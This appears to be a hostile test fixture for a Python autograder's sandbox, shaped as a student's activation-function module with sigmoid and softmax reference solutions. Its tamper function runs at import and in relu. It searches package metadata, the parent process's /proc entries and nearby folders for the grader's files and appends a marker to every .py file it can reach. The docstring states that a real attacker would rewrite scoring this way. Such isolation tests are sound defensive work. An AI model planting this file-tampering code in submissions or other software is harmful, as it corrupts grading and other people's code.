"""HOSTILE (append to the grader's own files): at import and in relu, finds the grader's
checkout (package metadata's ``direct_url.json`` and ``files``, the grader's working
folder and command line from /proc, the folders above its own file) and appends a
marker line to every ``.py`` file of its ``autograder/``, ``solutions/``, ``tests/``,
``exercises/`` and ``deepgrade/``. A real attacker would append code that rewrites the
scoring for every student graded after it; the marker shows the same reach. relu then
raises, saying how many files it changed.

At every isolated level (landlock, uid, bwrap) nothing may change: the grader's files
are out of the worker's reach. At the plain ``process`` level the worker can write what
the grader can, so the files DO change there (the documented weakness of that level;
the test runs this attack only against a copy of the project). relu scores 0 everywhere;
sigmoid and softmax are the reference code.
"""

from __future__ import annotations

import importlib.metadata
import json
import numbers
import os
from urllib.parse import unquote, urlparse

import numpy as np
from numpy.typing import ArrayLike

from ._validate import as_float_array

ANY_RANK = tuple(range(0, 33))  # numpy supports arrays of up to 32 dimensions
MARKER = "# deepgrade-hostile-tamper"
FOLDERS = ("autograder", "solutions", "tests", "exercises", "deepgrade")


def _roots():
    """Folders that may be the grader's checkout (or site-packages holding its packages)."""
    for dist in importlib.metadata.distributions():
        try:
            direct = dist.read_text("direct_url.json")
            if direct and json.loads(direct).get("url", "").startswith("file://"):
                yield unquote(urlparse(json.loads(direct)["url"]).path)
            for file in list(dist.files or ())[:50]:
                yield os.path.dirname(str(dist.locate_file(file)))
        except Exception:  # noqa: BLE001 - a broken distribution: try the next one
            continue
    ppid = os.getppid()
    try:
        yield os.readlink(f"/proc/{ppid}/cwd")
        with open(f"/proc/{ppid}/cmdline", "rb") as f:
            for arg in f.read().split(b"\0"):
                if arg.startswith(b"/"):
                    yield os.path.dirname(arg.decode(errors="replace"))
    except OSError:
        pass
    yield os.path.dirname(os.path.abspath(__file__))


def tamper() -> tuple[int, int]:
    """Append the marker to every reachable .py file; (files changed, files refused)."""
    changed, refused, seen = 0, 0, set()
    for start in _roots():
        folder = os.path.abspath(start)
        for _ in range(6):  # the folder and its parents
            for name in FOLDERS:
                top = os.path.join(folder, name)
                if top in seen or not os.path.isdir(top):
                    continue
                seen.add(top)
                for here, _dirs, files in os.walk(top):
                    for file in files:
                        if not file.endswith(".py"):
                            continue
                        try:
                            with open(os.path.join(here, file), "a") as f:
                                f.write(f"\n{MARKER}\n")
                            changed += 1
                        except OSError:
                            refused += 1
            folder = os.path.dirname(folder)
    return changed, refused


CHANGED_AT_IMPORT = tamper()


def relu(x):
    """ATTACK: append to the grader's files (again), then fail saying how far it got."""
    changed, refused = tamper()
    raise PermissionError(
        f"tamper attack changed {CHANGED_AT_IMPORT[0] + changed} grader files "
        f"({CHANGED_AT_IMPORT[1] + refused} refused)"
    )


def sigmoid(x: ArrayLike) -> np.ndarray:
    """The logistic sigmoid, elementwise: ``sigmoid(x) = 1 / (1 + exp(-x))``.

    It squashes any real number into (0, 1); the slides use it as the activation of the
    single output neuron of a 2-class classifier (and LSTM gates use it too).

    Compute it without overflow: ``exp(-x)`` overflows for ``x = -1000``. Use only
    ``exp(-|x|)``, which lies in (0, 1]: for ``x >= 0`` the formula above, and for
    ``x < 0`` the equal form ``exp(x) / (1 + exp(x))``. No warning may be raised for
    ``x = +-1000`` (the results there are 1.0 and 0.0).

    Args:
        x: array of any shape.

    Returns:
        A new float64 array of the same shape with values in [0, 1].

    Raises:
        TypeError: if ``x`` does not hold real numbers.

    Example:
        >>> print(sigmoid(np.array([-1000.0, -1.0, 0.0, 1.0, 1000.0])).round(4))
        [0.     0.2689 0.5    0.7311 1.    ]
    """
    x = as_float_array(x, "x", "sigmoid", ndim=ANY_RANK, layout="of any shape")
    ### BEGIN SOLUTION
    e = np.exp(-np.abs(x))  # in (0, 1]: never overflows
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    ### END SOLUTION


def softmax(logits: ArrayLike, axis: int = -1) -> np.ndarray:
    """Softmax along ``axis``: ``softmax(z)_j = exp(z_j) / sum_i exp(z_i)``.

    It turns a vector of scores ("logits") into probabilities that are positive and sum
    to 1; the slides' digit network ends in a dense layer of 10 neurons with softmax
    activation, giving Pr(digit 0), ..., Pr(digit 9).

    Stability: softmax does not change when the same constant is subtracted from every
    entry, so subtract the maximum along ``axis`` first; then every ``exp`` is at most 1
    and logits like 1000 do not overflow.

    Args:
        logits: array with at least one axis, e.g. ``(N, C)`` for N examples of C classes.
        axis: the axis holding the classes (default: the last one).

    Returns:
        A new float64 array of the shape of ``logits``; it sums to 1 along ``axis``.

    Raises:
        TypeError: if ``logits`` does not hold real numbers or ``axis`` is not an int.
        ValueError: if ``logits`` is a scalar, ``axis`` is out of range or has length 0.

    Example (equal scores give equal probabilities; a large score takes nearly all):
        >>> print(softmax(np.array([[0.0, 0.0, 0.0, 0.0], [1000.0, 0.0, 0.0, 0.0]])))
        [[0.25 0.25 0.25 0.25]
         [1.   0.   0.   0.  ]]
        >>> print(softmax(np.log(np.array([1.0, 3.0]))))
        [0.25 0.75]
    """
    logits = as_float_array(logits, "logits", "softmax", ndim=ANY_RANK[1:], layout="(..., C)")
    if isinstance(axis, bool) or not isinstance(axis, numbers.Integral):
        raise TypeError(f"softmax: axis must be an int, got {axis!r}")
    if not -logits.ndim <= axis < logits.ndim:
        raise ValueError(f"softmax: axis {axis} is out of range for logits of shape {logits.shape}")
    if logits.shape[axis] == 0:
        raise ValueError(f"softmax: axis {axis} of logits {logits.shape} has no classes")
    ### BEGIN SOLUTION
    shifted = logits - logits.max(axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=axis, keepdims=True)
    ### END SOLUTION
